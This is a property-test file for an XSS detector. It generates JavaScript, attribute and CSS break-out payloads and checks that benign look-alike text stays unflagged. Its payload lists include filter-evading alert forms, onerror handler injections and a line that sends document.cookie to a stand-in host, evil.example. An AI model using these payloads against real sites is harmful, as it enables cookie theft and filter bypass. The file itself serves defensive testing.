// Property tests for break-outs (TECHNIQUES.md T3, T6, T8): a value that closes the JavaScript
// string, comment or block it lands in and goes on as code, and a value that ends the attribute
// value it lands in and adds a handler. Generated from the grammar's own pieces: what closes the
// context, what runs, and what the value leaves for the page's text. Hard benign text of the
// same shapes (code samples, prose about handlers, CSS with escapes) must stay quiet.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { decode } from "@/lib/detection/payloads/decode.ts";
import { analyzeValue, type FindingKind } from "./analyze.ts";

const kinds = (raw: string) => Object.keys(analyzeValue(decode(raw), raw)) as FindingKind[];

/** What ends the JavaScript context a value lands in, then a statement separator or an operator. */
const jsCloser = fc.constantFrom(
  "';",
  '";',
  "`;",
  "'};",
  "'});",
  "\\';",
  '\\";',
  "*/;",
  "'-",
  '"+',
  "'||",
  "'&&",
  "1;",
  "'));",
  "});",
);
/** Code that runs: dialogs called in the ways that avoid the plain "alert(", and the sinks. */
const jsCode = fc.constantFrom(
  "alert(1)",
  "alert?.(1)",
  "[1].find(alert)",
  "a=alert,a(1)",
  "x=confirm;x(1)",
  "(prompt)(1)",
  "top?.['al'+'ert'](1)",
  "$.getscript('//evil.example/x.js')",
  "jquery.globaleval(name)",
  "[].sort.call`${alert}`",
  "fetch('//evil.example/'+document.cookie)",
);
/** What the value leaves for the page's own text: nothing, a comment, or the start of an expression. */
const jsTail = fc.constantFrom("", "//", "-'", "+'", ";'", "<!--", " '", ",'");

describe("a value that closes its JavaScript context and goes on as code (T8)", () => {
  it("closer, code, tail", () =>
    fc.assert(
      fc.property(jsCloser, jsCode, jsTail, (close, code, tail) => {
        expect(kinds(`${close}${code}${tail}`)).toContain("script-sink");
      }),
    ));
  it("a DOM sink named whole, as filters' deny lists know them", () =>
    fc.assert(
      fc.property(
        fc.constantFrom(
          "document.write",
          "document.domain",
          "x.innerHTML",
          "this.parentNode.outerHTML",
          "document.cookie",
        ),
        fc.constantFrom("", "';", '";'),
        (sink, close) => {
          expect(kinds(`${close}${sink}`)).toContain("script-sink");
        },
      ),
    ));
  it.each([
    "use document.write sparingly",
    "document.write is deprecated",
    "set el.innerHTML to the markup",
    "write a review",
    "const pick = (items) => items.find(isActive)",
    "a = 1, b = a(2)",
    "alias = alert means nothing here",
    "Use $.getScript to load a plugin",
    "if (user?.name) greet(user)",
    "The find(alert) pattern is a WAF bypass, see the docs",
  ])("ordinary code or prose stays quiet: %s", (text) => expect(kinds(text)).not.toContain("script-sink"));
});

describe("a value that ends its attribute value and adds a handler (T3)", () => {
  it("after an unquoted value the page wrote, a leading space is enough", () =>
    fc.assert(
      fc.property(
        fc.constantFrom(" ", "\t", "  "),
        fc.stringMatching(/^[a-z]{3,10}$/),
        fc.constantFrom("'alert(1)'", '"confirm(1)"', "prompt`1`"),
        fc.constantFrom("", " x=", ">"),
        (space, event, code, tail) => {
          expect(kinds(`${space}on${event}=${code}${tail}`)).toContain("event-handler");
        },
      ),
    ));
  it("a handler written as another attribute's unquoted value (<img src= onerror=…>)", () =>
    fc.assert(
      fc.property(
        fc.constantFrom("img", "input", "body"),
        fc.constantFrom("src", "value", "title"),
        fc.stringMatching(/^[a-z]{3,10}$/),
        fc.constantFrom("\"alert('x')\"", "'confirm(1)'", "prompt(1)"),
        (tag, attribute, event, code) => {
          expect(kinds(`<${tag} ${attribute}= on${event}=${code}>`)).toContain("event-handler");
        },
      ),
    ));
  it.each([" onclick handlers are bad practice", "  on the left side", " style guide, page 3", " href"])(
    "a leading space before a word is prose: %j",
    (text) => expect(kinds(text)).toEqual([]),
  );
});

describe("CSS escapes that hide an at-rule (T6)", () => {
  it("@\\69mport and other escaped at-rule names in a style element", () =>
    fc.assert(
      fc.property(
        fc.constantFrom("\\69mport", "\\000069mport", "\\i mport", "\\\\"),
        fc.constantFrom(' "x.css";', " url(x.css);", ""),
        (name, rest) => {
          expect(kinds(`<style>@${name}${rest}</style>`)).toContain("css-script");
        },
      ),
    ));
  it.each(['<style>a::before{content:"\\201C"}</style>', "<style>@media print{a{color:red}}</style>"])(
    "ordinary CSS with escapes stays quiet: %s",
    (css) => expect(kinds(css)).toEqual([]),
  );
});

describe("hard benign text of the same shapes stays quiet", () => {
  /** Fragments people write in forms, comments and code samples: markup-ish, math, mail, markdown, JSX, Vue. */
  const fragment = fc.constantFrom(
    "if a<b>c then swap",
    "x<y and y>z",
    "I <3 you",
    "Prices: <$10, >$5",
    "Contact <ana.silva@example.com>",
    '"Ana Silva" <ana@example.com>',
    "[docs](https://example.com/page?a=1&b=2)",
    "**bold** and `code`",
    "<b>bold</b> and <i>italic</i>",
    '<a href="/docs/start">start</a>',
    '<img src="/logo.png" alt="Logo">',
    "<Button onClick={handleClick}>Save</Button>",
    '<div v-if="show">Hi</div>',
    '<li :class="{ active: isActive }">Item</li>',
    "{{ user.firstName }}",
    "const el = document.getElementById('main')",
    "setTimeout(() => save(), 500)",
    "window.addEventListener('load', init)",
    "The onload event fires after load",
    "Set location = Lisbon in the profile",
    "background: url(/img/hero.jpg) center;",
    "See https://example.com/search?q=onload+event+order",
    "alert: disk almost full",
    "<!-- TODO: remove -->",
  );
  it("any sequence of them", () =>
    fc.assert(
      fc.property(
        fc.array(fragment, { minLength: 1, maxLength: 4 }),
        fc.constantFrom(" ", "\n", ". "),
        (parts, sep) => {
          expect(kinds(parts.join(sep))).toEqual([]);
        },
      ),
      { numRuns: 500 },
    ));
});
